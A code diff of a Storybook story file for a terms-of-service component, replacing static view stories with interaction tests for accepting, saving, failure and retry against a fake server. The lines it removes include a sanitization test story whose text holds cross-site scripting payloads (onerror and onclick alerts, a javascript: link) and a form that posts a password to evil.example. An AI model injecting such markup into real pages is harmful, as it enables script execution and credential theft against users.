@@ -1,32 +1,64 @@
+import { operations, type FakeServer } from '@capstan/sdk-core/testing'
 import type { Meta, StoryObj } from '@storybook/react-vite'
-import { fn } from 'storybook/test'
-import { TermsOfServiceView } from './TermsOfServiceView'
-import { plainTerms, someTerms } from './testing'
+import { expect, fn, waitFor } from 'storybook/test'
+import { failingOnce, never, onPlatform } from '../testing/onPlatform'
+import { TermsOfService } from './TermsOfService'
+import { someTerms } from './testing'
 
+const accepted = () => ({
+  __typename: 'Mutation',
+  acceptTerms: {
+    __typename: 'AcceptTermsPayload',
+    termsOfService: { __typename: 'TermsOfService', id: someTerms().id },
+  },
+})
+
+/** Records the acceptance on the platform; `TermsOfServiceView` shows the same from props. */
 const meta = {
   title: 'Terms/TermsOfService',
-  component: TermsOfServiceView,
-  args: { terms: someTerms(), onAccept: fn() },
-} satisfies Meta<typeof TermsOfServiceView>
+  component: TermsOfService,
+  args: { terms: someTerms(), onAccepted: fn() },
+  parameters: { platform: onPlatform((server) => server.on(operations.AcceptTerms, accepted)) },
+} satisfies Meta<typeof TermsOfService>
 export default meta
 
 type Story = StoryObj<typeof meta>
 
-export const Html: Story = {}
+export const Ready: Story = {}
 
-export const PlainText: Story = { args: { terms: plainTerms } }
-
-export const Saving: Story = { args: { status: 'saving' } }
-
-export const Failed: Story = { args: { status: 'failed' } }
-
-/** Markup that means harm shows as what is left of it. */
-export const Hostile: Story = {
-  args: {
-    terms: someTerms({
-      agreement:
-        '<style>*{display:none}</style><p onclick="alert(1)">You agree to be <b>kind</b>.</p><img src=x onerror=alert(1)>' +
-        '<form action="https://evil.example"><input name="password"></form><a href="javascript:alert(1)">Read on</a>',
-    }),
+export const Accepting: Story = {
+  play: async ({ args, canvas, userEvent }) => {
+    await userEvent.click(canvas.getByRole('button', { name: 'I AGREE' }))
+    await waitFor(() => expect(args.onAccepted).toHaveBeenCalledOnce())
   },
+}
+
+export const Saving: Story = {
+  parameters: { platform: onPlatform((server) => server.on(operations.AcceptTerms, never)) },
+  play: async ({ canvas, userEvent }) => {
+    await userEvent.click(canvas.getByRole('button', { name: 'I AGREE' }))
+  },
+}
+
+/** The acceptance was not recorded; I AGREE tries again. */
+export const Failed: Story = {
+  parameters: { platform: onPlatform(teachFailure) },
+  play: async ({ canvas, userEvent }) => {
+    await userEvent.click(canvas.getByRole('button', { name: 'I AGREE' }))
+    await expect(await canvas.findByRole('alert')).toHaveTextContent('Your acceptance was not saved.')
+  },
+}
+
+export const TriedAgain: Story = {
+  parameters: { platform: onPlatform(teachFailure) },
+  play: async ({ args, canvas, userEvent }) => {
+    await userEvent.click(canvas.getByRole('button', { name: 'I AGREE' }))
+    await canvas.findByRole('alert')
+    await userEvent.click(canvas.getByRole('button', { name: 'I AGREE' }))
+    await waitFor(() => expect(args.onAccepted).toHaveBeenCalledOnce())
+  },
+}
+
+function teachFailure(server: FakeServer) {
+  server.on(operations.AcceptTerms, failingOnce(accepted))
 }
